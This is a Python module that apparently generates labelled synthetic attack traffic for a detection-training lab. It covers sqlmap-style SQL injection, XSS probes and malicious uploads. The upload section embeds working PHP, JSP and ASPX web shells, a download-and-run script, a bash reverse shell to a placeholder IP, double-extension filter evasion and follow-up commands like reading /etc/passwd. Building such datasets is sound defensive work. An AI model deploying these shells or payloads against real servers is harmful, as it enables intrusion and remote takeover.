"""Web attacks that send payloads: SQL injection as sqlmap runs it, XSS as XSStrike, wapiti and curl
payload lists send it, and uploads of scripts and executables.

Each episode draws its tool, techniques, encodings, parameter positions (query, form body, JSON,
cookie, headers), user agent and pace from the session's stream, and attacks the parameters and
pages the site's own application has (:mod:`..payloads.webapp`): what is sent tells the attack, not
the names it is sent in. Scanners are in :mod:`.webscan`.
"""

from __future__ import annotations

import itertools
import json
import random
from collections.abc import Iterator
from urllib.parse import quote, unquote

from trainer.lab.ethernet.attacks.hosts import pick_source
from trainer.lab.ethernet.attacks.webscan import atk_vuln_scan
from trainer.lab.ethernet.capture import Capture
from trainer.lab.ethernet.payloads import sqli, xss
from trainer.lab.ethernet.payloads.http import BROWSER_UAS, multipart
from trainer.lab.ethernet.payloads.webapp import WebApp, app_of, ordinary_value
from trainer.lab.ethernet.payloads.webclient import Client, Req, drive, pace
from trainer.lab.ethernet.site import Site

__all__ = ["atk_injection", "atk_upload", "atk_vuln_scan", "place"]

POSITIONS = ("query", "form", "json", "cookie", "header")


def _session_cookie(rng: random.Random) -> str:
    name = rng.choice(["PHPSESSID", "JSESSIONID", "ASP.NET_SessionId", "session", "sid", "connect.sid"])
    return f"{name}={''.join(rng.choice('0123456789abcdef') for _ in range(26))}"


def place(
    rng: random.Random, app: WebApp, position: str, page: str, param: str, value: str, header: str = "User-Agent"
) -> Req:
    """A request carrying ``value`` (as the tool encoded it for a URL) in ``param`` at ``position``,
    beside ordinary values of the page's other parameters."""
    others = [
        f"{p}={ordinary_value(rng, app.words)}"
        for p in rng.sample(app.params, min(len(app.params), rng.randint(0, 3)))
        if p != param
    ]
    pairs = [*others, f"{param}={value}"]
    if rng.random() < 0.5:
        rng.shuffle(pairs)
    raw = value.replace("+", " ")
    for _ in range(3):
        raw = unquote(raw)
    raw = raw.replace("\r", "").replace("\n", " ")
    if position == "query":
        return Req("GET", f"{page}?{'&'.join(pairs)}")
    if position == "form":
        return Req("POST", page, body="&".join(pairs).encode(), ctype="application/x-www-form-urlencoded")
    if position == "json":
        doc: dict[str, object] = {p.split("=")[0]: unquote(p.split("=", 1)[1]) for p in others}
        doc[param] = raw
        return Req(
            "POST",
            f"{app.api}/{rng.choice(app.resources)}",
            body=json.dumps(doc).encode(),
            ctype=rng.choice(["application/json", "application/json; charset=utf-8"]),
            resp_type="application/json",
        )
    if position == "cookie":
        return Req(
            "GET",
            page + (f"?{'&'.join(others)}" if others else ""),
            headers=[("Cookie", f"{param}={value}; {_session_cookie(rng)}")],
        )
    clean = "".join(c if " " <= c <= "~" else " " for c in raw)
    return Req("GET", page + (f"?{'&'.join(others)}" if others else ""), headers=[(header, clean)])


def _weighted_positions(rng: random.Random, weights: list[int]) -> list[str]:
    """Where a tool puts its values: a query, form or JSON parameter, and now and then a cookie or a
    header besides (sqlmap's --level 2 and 3, XSStrike's --headers: after the parameters)."""
    first = rng.choices(POSITIONS[:3], weights[:3])[0]
    return [first] if rng.random() < 0.5 else [first, rng.choices(POSITIONS, weights)[0]]


def sql_requests(rng: random.Random, app: WebApp) -> tuple[Iterator[Req], dict[str, object]]:
    """sqlmap against one or more of the site's parameters: its plan (techniques, tampers,
    encoding, positions) and its requests."""
    dbms = rng.choice(sqli.DBMS)
    techniques = tuple(t for t in sqli.TECHNIQUES if rng.random() < 0.6) or ("boolean", "time")
    if len(techniques) < 2:
        techniques = tuple(sorted({techniques[0], rng.choice(sqli.TECHNIQUES)}, key=sqli.TECHNIQUES.index))
    if rng.random() < 0.3:  # --technique with the most useful first
        techniques = tuple(rng.sample(techniques, len(techniques)))
    tampers = tuple(rng.sample(sqli.TAMPERS, rng.choice([0, 0, 1, 1, 2])))
    # the char*encode tampers percent-encode (once or twice) themselves; sqlmap leaves their % alone
    how = (
        "sqlmap"
        if {"charencode", "chardoubleencode"} & set(tampers)
        else rng.choice(["sqlmap", "sqlmap", "full", "plus"])
    )
    positions = _weighted_positions(rng, [50, 25, 12, 8, 5])
    crawl = rng.random() < 0.3
    plan = {
        "tool": "sqlmap",
        "dbms": dbms,
        "techniques": techniques,
        "tampers": tampers,
        "encoding": how,
        "positions": positions,
        "crawl": crawl,
    }

    def gen() -> Iterator[Req]:
        if crawl:  # --crawl / --forms: the site's pages first
            for page in rng.sample(app.pages, len(app.pages)):
                yield Req("GET", page, status=rng.choice([200, 200, 200, 302, 404]))
        for chunk in itertools.count():
            page, param = app.page(rng), rng.choice(app.params)
            position = positions[chunk % len(positions)]  # the parameters first, then cookies or headers
            header = rng.choice(["User-Agent", "Referer", "X-Forwarded-For"])
            orig = ordinary_value(rng, app.words) if rng.random() < 0.3 else str(rng.randint(1, 500))
            orig = unquote(orig)
            for k, (tech, value, wait) in enumerate(sqli.sqlmap_values(rng, orig, dbms, techniques)):
                if tech != "dump" and k > 60 and rng.random() < 0.1:
                    break  # on to the next parameter
                if tech == "dump" and rng.random() < 0.02:
                    break
                enc = sqli.encode(rng, sqli.tamper(rng, value, tampers), how)
                req = place(rng, app, position, page, param, enc, header)
                req.wait = float(wait)
                req.status = (
                    rng.choice([200, 200, 200, 500, 302])
                    if tech in ("heuristic", "error")
                    else rng.choice([200, 200, 200, 200, 500, 403])
                )
                yield req

    return gen(), plan


def xss_requests(rng: random.Random, app: WebApp) -> tuple[Iterator[Req], dict[str, object], str]:
    """XSStrike, wapiti or a payload list sent with curl against the site's parameters; the plan, the
    requests and the user agent the tool sends."""
    tool = rng.choice(xss.TOOLS)
    obfs = rng.sample(xss.OBFUSCATIONS, rng.randint(1, 3))
    positions = _weighted_positions(rng, [45, 30, 10, 5, 10])
    ua = {
        "xsstrike": rng.choice(
            ["Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0", rng.choice(BROWSER_UAS)]
        ),
        "wapiti": rng.choice(
            [
                "Mozilla/5.0 (Windows NT 6.1; rv:45.0) Gecko/20100101 Firefox/45.0",
                "Wapiti-3.0.4 (wapiti.sourceforge.io)",
            ]
        ),
        "list": rng.choice(
            [
                f"curl/7.{rng.randint(58, 88)}.{rng.randint(0, 1)}",
                f"curl/8.{rng.randint(0, 5)}.0",
                rng.choice(BROWSER_UAS),
            ]
        ),
    }[tool]
    plan: dict[str, object] = {"tool": tool, "obfuscations": obfs, "positions": positions}

    def gen() -> Iterator[Req]:
        for chunk in itertools.count():
            page, param = app.page(rng), rng.choice(app.params)
            position = positions[chunk % len(positions)]
            orig = unquote(ordinary_value(rng, app.words))
            for k, (_, value) in enumerate(xss.xss_values(rng, tool, orig)):
                if k > 10 and rng.random() < 0.05:
                    break
                value = xss.obfuscate(rng, value, rng.choice(obfs))
                enc = quote(value, safe="%/=:;,()'*!~`[]")
                req = place(rng, app, position, page, param, enc, rng.choice(["Referer", "User-Agent"]))
                req.status = rng.choice([200, 200, 200, 200, 400, 403, 500])
                yield req

    return gen(), plan, ua


def atk_injection(cap: Capture, site: Site, t: float, n: int, label: str) -> None:
    """SQL injection as sqlmap runs it, or XSS as XSStrike, wapiti and payload lists send it."""
    rng = cap.rng
    app = app_of(site)
    src = pick_source(site, rng)
    if label == "SQL_injection":
        reqs, _ = sql_requests(rng, app)
        client = Client(site.web_host, sqli.agent(rng), "sqlmap")
    else:
        reqs, _, ua = xss_requests(rng, app)
        client = Client(site.web_host, ua, rng.choice(["browser", "requests", "curl"]))
    drive(cap, site, t, n, label, src, client, reqs, pace(rng), app.server)


#: web shells and scripts, as uploaded: (kind, content type as sent, content)
SCRIPTS = [
    ("php", "application/x-php", b"<?php system($_GET['cmd']); ?>"),
    ("php", "application/x-php", b"<?php @eval($_POST['pass']);?>"),
    ("php", "text/plain", b"<?php if(isset($_REQUEST['c'])){echo '<pre>';passthru($_REQUEST['c']);echo '</pre>';} ?>"),
    ("php", "application/octet-stream", b"<?php\n$k='3c6e0b8a';$p=$_POST[$k];eval(base64_decode($p));\n?>"),
    ("php", "image/gif", b"GIF89a;\n<?php echo shell_exec($_GET['e']); ?>"),
    (
        "jsp",
        "application/octet-stream",
        b'<%@ page import="java.util.*,java.io.*"%><% Process p = Runtime.getRuntime()'
        b'.exec(request.getParameter("cmd")); %>',
    ),
    (
        "aspx",
        "application/octet-stream",
        b'<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>',
    ),
    ("sh", "text/x-sh", b"#!/bin/sh\nwget -q -O /tmp/.x http://198.51.100.7/x && chmod +x /tmp/.x && /tmp/.x &\n"),
    ("sh", "application/x-sh", b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"),
    ("py", "text/x-python", b"#!/usr/bin/env python3\nimport socket,subprocess,os\ns=socket.socket()\n"),
]
#: executables: (kind, content type, magic and header)
BINARIES = [
    ("elf", "application/octet-stream", b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"),
    ("elf", "application/x-executable", b"\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x28\x00"),
    ("pe", "application/x-msdownload", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"),
    ("pe", "application/octet-stream", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00"),
]
SHELL_NAMES = [
    "shell",
    "cmd",
    "c99",
    "r57",
    "b374k",
    "wso",
    "up",
    "x",
    "test",
    "info",
    "backdoor",
    "s",
    "1",
    "tmp",
    "config",
    "index",
    "upload",
    "a",
]
INNOCENT_NAMES = [
    "avatar",
    "photo",
    "image",
    "logo",
    "IMG_2041",
    "scan",
    "invoice",
    "report",
    "update",
    "firmware",
    "readme",
    "profile",
    "banner",
    "doc",
    "thumb",
    "export",
]
EXTS = {
    "php": [".php", ".php5", ".phtml", ".phar", ".PhP", ".php7", ".pHp"],
    "jsp": [".jsp", ".jspx"],
    "aspx": [".aspx", ".asp", ".ashx"],
    "sh": [".sh", ".bash", ""],
    "py": [".py", ""],
    "elf": ["", ".elf", ".bin", ".so", ".out"],
    "pe": [".exe", ".dll", ".scr", ".bin"],
}


def upload_file(rng: random.Random) -> tuple[str, str, bytes]:
    """A file an attacker uploads: (name, content type, data). Scripts under their own extension, a
    double extension, or an image's name; executables with or without one."""
    kind, ctype, data = rng.choice(SCRIPTS) if rng.random() < 0.7 else rng.choice(BINARIES)
    ext = rng.choice(EXTS[kind])
    stem = rng.choice(SHELL_NAMES) + (str(rng.randint(1, 99)) if rng.random() < 0.3 else "")
    naming = rng.random()
    if naming < 0.45:
        name = stem + ext
    elif naming < 0.7:  # double extension, for filters that read the last one, or the first
        name = (
            f"{rng.choice(INNOCENT_NAMES)}{ext or '.php'}{rng.choice(['.jpg', '.png', '.gif', '.pdf'])}"
            if rng.random() < 0.5
            else f"{rng.choice(INNOCENT_NAMES)}.{rng.choice(['jpg', 'png', 'pdf'])}{ext or '.php'}"
        )
    else:  # an innocuous name: only the content tells
        name = f"{rng.choice(INNOCENT_NAMES)}{rng.choice(['.jpg', '.png', '.gif', '.pdf', '.txt', '.bin', ''])}"
        ctype = rng.choice([ctype, "image/jpeg", "image/png", "application/octet-stream"])
    if kind in ("elf", "pe"):
        data = data + rng.randbytes(rng.choice([500, 4000, 30000, 90000]))
    elif rng.random() < 0.5:
        data = (
            data
            + b"\n"
            + b"".join(
                rng.choice([b"//", b"#"]) + rng.randbytes(8).hex().encode() + b"\n" for _ in range(rng.randint(1, 200))
            )
        )
    return name, ctype, data


def upload_requests(rng: random.Random, app: WebApp) -> Iterator[Req]:
    """The upload form fetched, a file posted (multipart, or PUT where the server allows it), refused
    sometimes and tried again under another name, then the uploaded file called."""
    way = rng.choice(["form", "form", "api", "put"])
    field_name = rng.choice(
        ["file", "upload", "uploaded", "userfile", "attachment", "image", "document", "fileToUpload"]
    )
    target = app.upload if way != "put" else rng.choice(["/uploads/", "/webdav/", "/files/", f"{app.root}/media/"])
    style = rng.choice(["webkit", "firefox", "curl", "requests"])
    while True:
        if way != "put" and rng.random() < 0.4:
            yield Req("GET", target)
        name, ctype, data = upload_file(rng)
        ok = rng.random() < 0.6
        if way == "put":
            yield Req("PUT", target + name, body=data, ctype=ctype, status=201 if ok else rng.choice([403, 405]))
        else:
            fields = [(rng.choice(["submit", "Upload", "upload", "send"]), rng.choice(["Upload", "Submit", "1"]))]
            if rng.random() < 0.5:
                fields.append(("MAX_FILE_SIZE", str(rng.choice([100000, 2000000, 10485760]))))
            if rng.random() < 0.4:
                fields.append(
                    (
                        rng.choice(["csrf_token", "_token", "user_token"]),
                        "".join(rng.choice("0123456789abcdef") for _ in range(32)),
                    )
                )
            body, mct = multipart(rng, [(field_name, name, ctype, data)], fields, style)
            yield Req(
                "POST",
                target,
                body=body,
                ctype=mct,
                status=rng.choice([200, 201, 302]) if ok else rng.choice([403, 415, 413, 500, 200]),
                resp_type="application/json" if way == "api" else "text/html; charset=UTF-8",
            )
        if ok:
            where = rng.choice(
                ["/uploads/", f"{app.root}/uploads/", "/files/", "/images/", "/media/", target.rsplit("/", 1)[0] + "/"]
            )
            for _ in range(rng.randint(0, 3)):
                cmd = rng.choice(["id", "whoami", "uname+-a", "ls+-la", "cat+/etc/passwd", "ps+aux"])
                yield Req(
                    "GET",
                    f"{where}{quote(name)}?{rng.choice(['cmd', 'c', 'e', 'x', 'exec'])}={cmd}",
                    status=rng.choice([200, 200, 404, 500]),
                )


def atk_upload(cap: Capture, site: Site, t: float, n: int) -> None:
    """Uploads of web shells, scripts and executables to the site's upload forms, API or WebDAV."""
    rng = cap.rng
    app = app_of(site)
    ua = rng.choice([*BROWSER_UAS, f"curl/7.{rng.randint(58, 88)}.0", "python-requests/2.31.0"])
    client = Client(site.web_host, ua, rng.choice(["browser", "curl", "requests"]))
    pc = pace(rng, rng.choice(["steady", "delay", "delay"]))
    pc.per_conn = rng.choice([(1, 1), (1, 4)])
    drive(cap, site, t, n, "Uploading", pick_source(site, rng), client, upload_requests(rng, app), pc, app.server)
